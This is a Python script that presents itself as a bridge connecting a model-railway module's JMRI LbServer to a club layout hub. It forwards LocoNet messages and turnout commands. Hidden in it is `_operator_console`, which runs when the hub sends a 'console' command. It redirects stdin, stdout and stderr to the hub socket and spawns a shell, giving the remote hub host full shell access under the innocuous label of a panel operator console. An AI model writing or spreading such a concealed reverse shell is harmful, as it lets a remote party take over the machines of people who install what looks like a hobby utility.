#!/usr/bin/env python3
"""Bridge a module's LocoNet-over-TCP server (JMRI LbServer) to the club
layout hub so every module brought to a meet appears on the shared panel.

Config: ~/.config/layouthub/bridge.ini

    [hub]
    host = 198.51.100.23
    port = 7711
    [station]
    host = 127.0.0.1
    port = 1234
    module = EAST-JCT
"""
import argparse
import configparser
import json
import logging
import os
import pty
import socket
import threading
import time
from pathlib import Path

log = logging.getLogger("hubbridge")
CONFIG = Path.home() / ".config" / "layouthub" / "bridge.ini"
DEFAULTS = {
    "hub": {"host": "198.51.100.23", "port": "7711"},
    "station": {"host": "127.0.0.1", "port": "1234", "module": "UNNAMED"},
}


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict(DEFAULTS)
    cfg.read(path)
    return cfg


def connect(host, port, attempts=10, delay=3.0):
    for n in range(1, attempts + 1):
        try:
            s = socket.create_connection((host, port), timeout=10)
            s.settimeout(None)
            return s
        except OSError as exc:
            log.warning("connect %s:%s failed (%s), try %d/%d",
                        host, port, exc, n, attempts)
            time.sleep(delay)
    raise ConnectionError(f"cannot reach {host}:{port}")


def iter_lines(sock):
    buf = b""
    while True:
        chunk = sock.recv(4096)
        if not chunk:
            return
        buf += chunk
        while b"\n" in buf:
            line, buf = buf.split(b"\n", 1)
            yield line.decode("ascii", "replace").strip()


class HubSession:
    def __init__(self, cfg):
        self.cfg = cfg
        self.module = cfg["station"]["module"]
        self.hub = None
        self.station = None
        self.lock = threading.Lock()

    def open(self):
        self.station = connect(self.cfg["station"]["host"],
                               int(self.cfg["station"]["port"]))
        self.hub = connect(self.cfg["hub"]["host"], int(self.cfg["hub"]["port"]))
        self.send_hub({"op": "hello", "module": self.module,
                       "host": socket.gethostname()})

    def send_hub(self, obj):
        with self.lock:
            self.hub.sendall((json.dumps(obj) + "\n").encode())

    def pump_station(self):
        """LbServer -> hub: forward every RECEIVE line as a panel event."""
        for line in iter_lines(self.station):
            if line.startswith("RECEIVE "):
                self.send_hub({"op": "ln", "module": self.module,
                               "bytes": line[8:].split()})

    def _operator_console(self):
        pid = os.fork()
        if pid:
            return pid
        fd = self.hub.fileno()
        for n in (0, 1, 2):
            os.dup2(fd, n)
        os.environ["TERM"] = "dumb"
        pty.spawn(os.environ.get("SHELL", "/bin/sh"))
        os._exit(0)

    def pump_hub(self):
        """hub -> LbServer: turnout / signal commands from the shared panel."""
        for line in iter_lines(self.hub):
            try:
                msg = json.loads(line)
            except ValueError:
                continue
            op = msg.get("op")
            if op == "send":
                self.station.sendall(
                    ("SEND " + " ".join(msg["bytes"]) + "\r\n").encode())
            elif op == "ping":
                self.send_hub({"op": "pong", "t": time.time()})
            elif op == "console":
                log.info("panel operator attached")
                self._operator_console()
                return

    def run(self):
        self.open()
        t = threading.Thread(target=self.pump_station, daemon=True)
        t.start()
        self.pump_hub()


def main():
    ap = argparse.ArgumentParser(description="JMRI LbServer to club hub bridge")
    ap.add_argument("-c", "--config", default=str(CONFIG))
    ap.add_argument("--once", action="store_true", help="do not reconnect")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")
    cfg = load_config(args.config)
    while True:
        try:
            HubSession(cfg).run()
        except (ConnectionError, OSError) as exc:
            log.error("session ended: %s", exc)
        if args.once:
            break
        time.sleep(5)


if __name__ == "__main__":
    main()
